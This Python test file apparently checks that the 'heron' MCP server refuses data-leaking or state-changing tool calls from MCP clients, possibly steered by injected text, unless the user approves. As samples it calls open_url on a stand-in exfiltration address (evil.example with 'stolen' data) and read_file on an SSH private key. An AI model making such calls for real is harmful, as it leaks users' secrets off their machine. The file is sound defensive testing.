"""Issue 13, item 6, over a real MCP session: the SDK's stdio client drives `heron mcp`
in a subprocess. A client steered by injected text must not chain a clipboard read
into an address that carries it away, nor change anything, without the user's yes:
a client that cannot ask gets a clear refusal; one that can shows the full address and
the scopes; `heron workers allow TOOL --mcp` is the standing yes."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import mcp_types as types
from helpers import run_heron
from mcp.client.session import ClientSession
from test_mcp import audit_rows, heron_mcp, text_of

URL = "http://evil.example/?q=stolen"


def test_a_client_that_cannot_ask_is_refused_everything_that_changes_or_leaks(
        tmp_path: Path) -> None:
    async def body(s: ClientSession) -> dict[str, types.CallToolResult]:
        return {
            "open_url": await s.call_tool("open_url", {"url": URL}),
            "clipboard_read": await s.call_tool("clipboard_read", {}),
            "clipboard_write": await s.call_tool("clipboard_write", {"text": "x"}),
            "set_timer": await s.call_tool("set_timer", {"seconds": 60}),
            "take_note": await s.call_tool("take_note", {"text": "pay rent"}),
            # a file's contents go back through the client exactly like the clipboard's
            "read_file": await s.call_tool("read_file", {"path": "~/.ssh/id_rsa"}),
            "find_files": await s.call_tool("find_files", {"query": "passwords"}),
            "get_time": await s.call_tool("get_time", {}),
        }

    got = heron_mcp(tmp_path, body)
    assert not got.pop("get_time").is_error  # a read that cannot leak still works
    for tool, result in got.items():
        text = text_of(result)
        assert result.is_error, f"{tool} ran: {text}"
        assert "needs your approval" in text and "[tool.denied]" in text, text
        assert "cannot show approval prompts" in text, text
    opened = text_of(got["open_url"])
    assert f"sends data off this machine in a web address: \"{URL}\"" in opened
    for tool in ("clipboard_read", "clipboard_write", "set_timer", "take_note", "read_file",
                 "find_files"):
        assert f"heron workers allow {tool} --mcp" in text_of(got[tool])
    assert "it reads what could leak: read your clipboard" in text_of(got["clipboard_read"])
    for tool in ("read_file", "find_files"):
        assert "it reads what could leak: read every file in your home folder" in \
            text_of(got[tool])
    ran = [(r["tool"], r["status"]) for r in audit_rows(tmp_path)
           if r["kind"] == "call" and r["source"] == "mcp"]
    assert ran == [("open_url", "denied"), ("clipboard_read", "denied"),
                   ("clipboard_write", "denied"), ("set_timer", "denied"),
                   ("take_note", "denied"), ("read_file", "denied"),
                   ("find_files", "denied"), ("get_time", "ok")]


def test_the_client_question_shows_the_full_address_and_the_scopes(tmp_path: Path) -> None:
    asked: list[types.ElicitRequestParams] = []

    async def elicit(context, params: types.ElicitRequestParams) -> types.ElicitResult:
        asked.append(params)
        return types.ElicitResult(action="decline")

    async def body(s: ClientSession) -> list[types.CallToolResult]:
        return [await s.call_tool("open_url", {"url": URL}),
                await s.call_tool("clipboard_read", {})]

    opened, read = heron_mcp(tmp_path, body, elicitation_callback=elicit)
    assert opened.is_error and "you denied it" in text_of(opened)
    assert read.is_error and "you denied it" in text_of(read)
    url_question, clip_question = (p.message for p in asked)
    assert f'"{URL}"' in url_question
    assert "open apps and web pages (apps.launch)" in url_question
    assert "read your clipboard (clipboard.read)" in clip_question
    # data leaving the machine is confirmed every time: only once or no is offered
    offered = [o["const"] for o in
               asked[0].requested_schema["properties"]["answer"]["oneOf"]]
    assert offered == ["once", "deny"]


def test_a_tool_allowed_for_mcp_runs_unasked_until_revoked(tmp_path: Path) -> None:
    allowed = run_heron(tmp_path, "workers", "allow", "set_timer", "--mcp", timeout=120)
    assert allowed.returncode == 0, allowed.stderr
    assert "MCP clients may now call set_timer without asking" in allowed.stdout
    grants = run_heron(tmp_path, "workers", "grants", "--json", timeout=120)
    assert [(g["tool"], g["scope"], g["answer"]) for g in json.loads(grants.stdout)] == [
        ("set_timer", "mcp:*", "always")]
    listed = run_heron(tmp_path, "workers", "grants", timeout=120)
    assert "allow for MCP clients" in listed.stdout

    async def body(s: ClientSession) -> dict[str, Any]:
        return {"timer": await s.call_tool("set_timer", {"seconds": 90}),
                "note": await s.call_tool("take_note", {"text": "still asked"})}

    got = heron_mcp(tmp_path, body)
    assert not got["timer"].is_error, text_of(got["timer"])
    assert "1 minute and 30 seconds" in text_of(got["timer"])
    assert got["note"].is_error  # the grant is for that one tool

    revoked = run_heron(tmp_path, "workers", "revoke", "set_timer", timeout=120)
    assert revoked.returncode == 0, revoked.stderr
    again = heron_mcp(tmp_path, lambda s: s.call_tool("set_timer", {"seconds": 90}))
    assert again.is_error and "heron workers allow set_timer --mcp" in text_of(again)


def test_allowing_an_unknown_tool_for_mcp_says_so(tmp_path: Path) -> None:
    r = run_heron(tmp_path, "workers", "allow", "no_such_tool", "--mcp", timeout=120)
    assert r.returncode == 2
    assert "no tool named 'no_such_tool'" in r.stderr and "heron workers list" in r.stderr
